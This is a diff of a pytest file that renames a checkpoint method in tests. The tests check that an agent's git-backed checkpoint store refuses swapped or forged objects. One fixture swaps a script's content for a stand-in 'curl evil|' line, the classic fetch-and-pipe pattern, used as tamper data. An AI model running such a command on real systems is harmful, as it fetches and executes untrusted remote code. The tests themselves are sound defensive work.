@@ -40,7 +40,7 @@ def test_a_content_that_was_swapped_is_not_written(either: Scene) -> None:
     good = b"#!/bin/sh\nmake test\n"
     either.write("run.sh", good)
     either.write("other", "before\n")
-    either.store.take(TURN)
+    either.store.make_checkpoint(TURN)
     either.write("run.sh", "later\n")
     either.write("other", "later\n")
     swap(either, id_of(either, good), b"#!/bin/sh\ncurl evil|\n")
@@ -55,7 +55,7 @@ def test_a_content_that_was_swapped_is_not_written(either: Scene) -> None:
 def test_no_diff_shows_a_content_that_was_swapped(scene: Scene) -> None:
     scene.write("a", "before\n")
     scene.write("b", "before too\n")
-    scene.store.take(TURN)
+    scene.store.make_checkpoint(TURN)
     scene.write("a", "later\n")
     scene.write("b", "later\n")
     swap(scene, id_of(scene, b"before\n"), b"forged\n")
@@ -69,7 +69,7 @@ def test_no_diff_shows_a_content_that_was_swapped(scene: Scene) -> None:
 def test_a_tree_that_was_swapped_is_not_followed(scene: Scene, depth: int) -> None:
     """A tree leads to contents: they would be the agent's own, each as its id says."""
     scene.write("src/run.sh", "good\n")
-    kept = scene.store.take(TURN)
+    kept = scene.store.make_checkpoint(TURN)
     scene.write("src/run.sh", "later\n")
     evil = tree_with(scene, [*[b"src"][depth:], b"run.sh"], b"evil\n")
     ours = scene.git("rev-parse", kept.tree, f"{kept.tree}:src").split()
@@ -87,7 +87,7 @@ def test_rules_that_were_swapped_delete_nothing(scene: Scene) -> None:
     """What was ignored then is deleted by no return, whatever somebody says that was ignored."""
     scene.write(".gitignore", ".env\n")
     scene.write(".env", "secret\n")
-    scene.store.take(TURN)
+    scene.store.make_checkpoint(TURN)
     scene.write(".gitignore", "")
     swap(scene, id_of(scene, b".env\n"), b"none\n")
     with pytest.raises(CheckpointError, match="isn't what was kept"):
@@ -97,7 +97,7 @@ def test_rules_that_were_swapped_delete_nothing(scene: Scene) -> None:
 
 def test_a_commit_that_was_swapped_is_not_listed(scene: Scene) -> None:
     scene.write("a", "good\n")
-    kept = scene.store.take(TURN)
+    kept = scene.store.make_checkpoint(TURN)
     commit = scene.git("rev-parse", kept.ref).strip()
     content = scene.git("cat-file", "commit", commit).encode()
     evil = tree_with(scene, [b"a"], b"evil\n")
@@ -110,9 +110,9 @@ def test_what_could_not_be_taken_back_stays_as_it_is(scene: Scene) -> None:
     scene.write("a", "before\n")
     scene.write("new", "made\n")
     store = scene.store
-    store.take(TURN)
+    store.make_checkpoint(TURN)
     (scene.top / "new").unlink()
-    store.take(TURN)
+    store.make_checkpoint(TURN)
     now = b"of the person\n"
     swap(scene, make(scene, "blob", now), b"of the agent\n")
     scene.write("a", now)
@@ -130,7 +130,7 @@ def test_what_claims_to_be_huge_is_not_read_into_memory(
     monkeypatch.setattr(objects, "LARGEST_OBJECT", 3_000_000)
     scene.write("a", "before\n")
     scene.write("b", "before too\n")
-    scene.store.take(TURN)
+    scene.store.make_checkpoint(TURN)
     scene.write("a", "later\n")
     scene.write("b", "later\n")
     swap(scene, id_of(scene, b"before\n"), bytes(3_000_001))
@@ -142,7 +142,7 @@ def test_what_claims_to_be_huge_is_not_read_into_memory(
 def test_an_object_is_followed_nowhere(scene: Scene, tmp_path: Path) -> None:
     """Alternates and packs are others' places for objects: their contents are compared as well."""
     scene.write("a", "before\n")
-    scene.store.take(TURN)
+    scene.store.make_checkpoint(TURN)
     scene.write("a", "later\n")
     id_ = id_of(scene, b"before\n")
     swap(scene, id_, b"forged\n")
